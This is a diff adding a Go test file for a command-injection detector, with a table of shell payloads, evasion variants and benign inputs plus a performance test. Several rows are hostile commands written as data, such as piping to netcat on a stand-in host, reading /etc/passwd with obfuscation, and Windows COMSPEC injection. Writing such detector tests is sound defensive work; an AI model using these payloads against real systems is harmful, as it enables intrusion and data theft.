@@ -0,0 +1,114 @@
+package libinjection
+
+import (
+	"strings"
+	"testing"
+	"time"
+)
+
+func TestDetectCmdi(t *testing.T) {
+	tests := []struct {
+		input       string
+		injection   bool
+		fingerprint string
+		flags       int
+	}{
+		{"127.0.0.1; id", true, ";c", FLAG_QUOTE_NONE | FLAG_SHELL_POSIX},
+		{"127.0.0.1\nid", true, ";c", FLAG_QUOTE_NONE | FLAG_SHELL_POSIX},
+		{"127.0.0.1 | nc evil 4444", true, "|c", FLAG_QUOTE_NONE | FLAG_SHELL_POSIX},
+		{"x || ping -c 10 127.0.0.1", true, "&c", FLAG_QUOTE_NONE | FLAG_SHELL_POSIX},
+		{"`id`", true, "Ec)", FLAG_QUOTE_NONE | FLAG_SHELL_POSIX},
+		{"a \"$(id)\" b", true, "Ec)", FLAG_QUOTE_NONE | FLAG_SHELL_POSIX},
+		{"<(id)", true, "Ec)", FLAG_QUOTE_NONE | FLAG_SHELL_POSIX},
+		{"x'; id; echo '", true, ";c;", FLAG_QUOTE_SINGLE | FLAG_SHELL_POSIX},
+		{"x\"; id; echo \"", true, ";c;", FLAG_QUOTE_DOUBLE | FLAG_SHELL_POSIX},
+		/* evasions */
+		{";cat${IFS}/etc/passwd", true, ";c", FLAG_QUOTE_NONE | FLAG_SHELL_POSIX},
+		{";{cat,/etc/passwd}", true, ";c", FLAG_QUOTE_NONE | FLAG_SHELL_POSIX},
+		{"; w'h'o'am'i", true, ";c", FLAG_QUOTE_NONE | FLAG_SHELL_POSIX},
+		{"|who$@ami", true, "|c", FLAG_QUOTE_NONE | FLAG_SHELL_POSIX},
+		{"; /tmp/x", true, ";c", FLAG_QUOTE_NONE | FLAG_SHELL_POSIX},
+		{"x;IFS=,;`cat<<<uname,-a`", true, "Ec>", FLAG_QUOTE_NONE | FLAG_SHELL_POSIX},
+		/* Windows */
+		{"& who^ami", true, ";c", FLAG_QUOTE_NONE | FLAG_SHELL_CMD},
+		{"& %COMSPEC% /c dir", true, ";v", FLAG_QUOTE_NONE | FLAG_SHELL_CMD},
+		{"x & type C:\\boot.ini", true, ";c", FLAG_QUOTE_NONE | FLAG_SHELL_POSIX},
+		/* commands that are words, with nothing before them */
+		{"& dir", true, ";c", FLAG_QUOTE_NONE | FLAG_SHELL_POSIX},
+		{"&& dir", true, "&c", FLAG_QUOTE_NONE | FLAG_SHELL_POSIX},
+		{"| dir", true, "|c", FLAG_QUOTE_NONE | FLAG_SHELL_POSIX},
+		{"; echo hi", true, ";c", FLAG_QUOTE_NONE | FLAG_SHELL_POSIX},
+		/* text */
+		{"foo.txt", false, "", 0},
+		{"O'Reilly & Sons", false, "", 0},
+		{"rock && roll", false, "", 0},
+		{"dogs; cat lovers", false, "", 0},
+		{"Black & White; type A", false, "", 0},
+		{"price > 10 & rising", false, "", 0},
+		{"search: ls -la", false, "", 0},
+		{"https://example.com/?a=1&b=2", false, "", 0},
+	}
+	for _, test := range tests {
+		result := DetectCmdi(test.input)
+		if result.Injection != test.injection {
+			t.Errorf("%q: expected %v, got %+v", test.input, test.injection, result)
+			continue
+		}
+		if test.injection && (result.Fingerprint != test.fingerprint || result.Flags != test.flags) {
+			t.Errorf("%q: expected %s %s, got %s %s", test.input, test.fingerprint, CmdiFlagsString(test.flags), result.Fingerprint, CmdiFlagsString(result.Flags))
+		}
+		if is, fingerprint := IsCmdi(test.input); is != test.injection || is && fingerprint != test.fingerprint {
+			t.Errorf("%q: IsCmdi gives %v %q", test.input, is, fingerprint)
+		}
+	}
+
+	if result := DetectCmdiFlags("x; id", FLAG_QUOTE_NONE|FLAG_SHELL_CMD); result.Injection {
+		t.Errorf("; is not a separator for cmd: %+v", result)
+	}
+	if result := CmdiDetector.Detect("$(id)"); !result.Injection || CmdiDetector.Name() != "cmdi" {
+		t.Errorf("unexpected %s detector result %+v", CmdiDetector.Name(), result)
+	}
+}
+
+/*
+ * Long runs of operators are tokenized in linear time: 256 KiB of '<' took
+ * close to two minutes when each redirect scanned the whole run.
+ */
+func TestCmdiLargeInput(t *testing.T) {
+	for _, op := range []string{"<", ">", "&", "|", "1>", "<("} {
+		input := strings.Repeat(op, 1<<18/len(op))
+		start := time.Now()
+		DetectCmdi(input)
+		if elapsed := time.Since(start); elapsed > 5*time.Second {
+			t.Errorf("%q: %v for %d bytes", op, elapsed, len(input))
+		}
+	}
+}
+
+/*
+ * Every fingerprint of the table must be one the folder can produce:
+ * ending one token after the first command run.
+ */
+func TestCmdiFingerprints(t *testing.T) {
+	for fingerprint := range cmdiFingerprints {
+		if len(fingerprint) > CMDI_MAX_TOKENS {
+			t.Errorf("%q: too long", fingerprint)
+		}
+		ran := -1
+		for i := 1; i < len(fingerprint) && ran == -1; i++ {
+			if cmdiDanger(fingerprint[i-1], fingerprint[i]) {
+				ran = i
+			}
+		}
+		if ran == -1 || len(fingerprint)-ran > 2 {
+			t.Errorf("%q: not a fingerprint the folder makes", fingerprint)
+		}
+		tokens := make([]cmdiToken, len(fingerprint))
+		for i := range fingerprint {
+			tokens[i] = cmdiToken{typ: fingerprint[i]}
+		}
+		if folded := cmdiFold(tokens); len(folded) != len(fingerprint) {
+			t.Errorf("%q: folds to %d tokens", fingerprint, len(folded))
+		}
+	}
+}